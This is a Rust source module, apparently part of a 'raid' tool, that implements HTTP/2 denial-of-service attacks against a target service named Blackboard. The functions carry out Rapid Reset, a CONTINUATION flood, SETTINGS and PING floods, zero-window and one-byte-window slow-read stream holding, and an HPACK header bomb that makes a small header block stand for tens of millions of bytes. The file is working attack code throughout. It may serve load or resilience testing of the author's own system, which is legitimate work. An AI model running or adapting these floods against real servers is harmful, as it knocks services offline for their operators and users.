//! By HTTP/2.

use anyhow::Result;
use tokio::io::AsyncWriteExt;

use super::super::Victim::Blackboard;
use super::super::frames::{
    AGAIN, CONTINUATION, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, frame, get, remembered, window,
};
use super::super::stage::{Speaks, Stage, Tls, flood};
use super::below::DRIP;

/// The error code CANCEL (RFC 9113 §7).
const CANCEL: [u8; 4] = 8_u32.to_be_bytes();

/// Streams at once; more than a server allows are refused one by one.
const STREAMS: u32 = 32;

async fn connect(stage: &Stage, settings: &[u8]) -> Result<Tls> {
    let mut stream = stage.tls(Blackboard, Speaks::Http2).await?;
    stream.write_all(&[PREFACE, settings].concat()).await?;
    Ok(stream)
}

/// The ids of a client's streams.
fn streams() -> impl Iterator<Item = u32> {
    (1..u32::MAX / 2).step_by(2)
}

pub(super) async fn rapid_reset(stage: &Stage) -> Result<()> {
    let mut stream = connect(stage, &window(65_535)).await?;
    let block = get(stage.host(Blackboard), "/");
    for id in streams() {
        let request = frame(HEADERS, END_STREAM | END_HEADERS, id, &block);
        let reset = frame(RST_STREAM, 0, id, &CANCEL);
        stream.write_all(&[request, reset].concat()).await?;
        stage.tried();
    }
    Ok(())
}

pub(super) async fn continuation(stage: &Stage) -> Result<()> {
    let mut stream = connect(stage, &window(65_535)).await?;
    let block = get(stage.host(Blackboard), "/");
    stream.write_all(&frame(HEADERS, 0, 1, &block)).await?;
    let more = [0x00, 1, b'x', 1, b'y'].repeat(200);
    flood(stage, stream, &frame(CONTINUATION, 0, 1, &more)).await
}

pub(super) async fn settings(stage: &Stage) -> Result<()> {
    let stream = connect(stage, &window(65_535)).await?;
    flood(stage, stream, &frame(SETTINGS, 0, 0, &[]).repeat(100)).await
}

pub(super) async fn pings(stage: &Stage) -> Result<()> {
    let stream = connect(stage, &window(65_535)).await?;
    flood(stage, stream, &frame(PING, 0, 0, b"12345678").repeat(100)).await
}

/// Asks in as many streams as there may be.
async fn ask_in_many(stage: &Stage, stream: &mut Tls) -> Result<()> {
    let block = get(stage.host(Blackboard), "/problems/");
    for id in streams().take(STREAMS as usize) {
        stream.write_all(&frame(HEADERS, END_STREAM | END_HEADERS, id, &block)).await?;
        stage.tried();
    }
    Ok(())
}

pub(super) async fn zero_window(stage: &Stage) -> Result<()> {
    let mut stream = connect(stage, &window(0)).await?;
    ask_in_many(stage, &mut stream).await?;
    // It stays until the raid is over.
    std::future::pending().await
}

pub(super) async fn tiny_window(stage: &Stage) -> Result<()> {
    let mut stream = connect(stage, &window(1)).await?;
    ask_in_many(stage, &mut stream).await?;
    loop {
        for id in streams().take(STREAMS as usize) {
            let more = frame(WINDOW_UPDATE, 0, id, &1_u32.to_be_bytes());
            stream.write_all(&more).await?;
            stage.tried();
        }
        tokio::time::sleep(DRIP).await;
    }
}

pub(super) async fn header_bomb(stage: &Stage) -> Result<()> {
    let mut stream = connect(stage, &window(65_535)).await?;
    let block = get(stage.host(Blackboard), "/");
    let first = [block.clone(), remembered("x-bomb", &[b'x'; 3_000])].concat();
    stream.write_all(&frame(HEADERS, END_STREAM | END_HEADERS, 1, &first)).await?;
    // 15,000 bytes that stand for 45 million.
    let bomb = [block, vec![AGAIN; 15_000]].concat();
    for id in streams().skip(1) {
        stream.write_all(&frame(HEADERS, END_STREAM | END_HEADERS, id, &bomb)).await?;
        stage.tried();
    }
    Ok(())
}
